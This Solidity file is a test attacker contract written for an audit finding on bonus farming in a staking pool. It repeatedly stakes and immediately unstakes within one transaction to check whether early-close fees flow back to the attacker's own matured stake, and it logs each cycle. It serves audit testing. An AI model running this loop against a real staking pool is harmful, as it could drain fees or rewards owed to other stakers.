// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface IFarmedPool {
    function stake(uint256 amount, uint256 holdTime) external returns (uint256);
    function unstake(uint256[] calldata ids) external;
}

/// @notice Test attacker for the bonus-farming finding of the audit (issue 12, finding 2): keeps a matured stake of
///         its own, then stakes long and closes at once, `cycles` times in one transaction, hoping the early-close
///         fee (bonus included) flows back to its own matured stake. Reports what each cycle put in and got back.
contract FarmAttacker {
    event Cycle(uint256 index, uint256 put, uint256 back);

    /// @notice Stakes `amount` for `hold` (the matured stake the fees would flow back to).
    function stakeBase(IFarmedPool pool, IERC20 token, uint256 amount, uint256 hold) external returns (uint256 id) {
        token.approve(address(pool), type(uint256).max);
        id = pool.stake(amount, hold);
    }

    /// @notice `cycles` times: stake `amount` for `hold` and close it in the same transaction.
    function farm(IFarmedPool pool, IERC20 token, uint256 amount, uint256 hold, uint256 cycles) external {
        token.approve(address(pool), type(uint256).max);
        uint256[] memory ids = new uint256[](1);
        for (uint256 i; i < cycles; ++i) {
            uint256 before = token.balanceOf(address(this));
            ids[0] = pool.stake(amount, hold);
            pool.unstake(ids);
            emit Cycle(i, amount, token.balanceOf(address(this)) + amount - before);
        }
    }

    /// @notice Closes the attacker's stakes `ids`.
    function close(IFarmedPool pool, uint256[] calldata ids) external {
        pool.unstake(ids);
    }
}
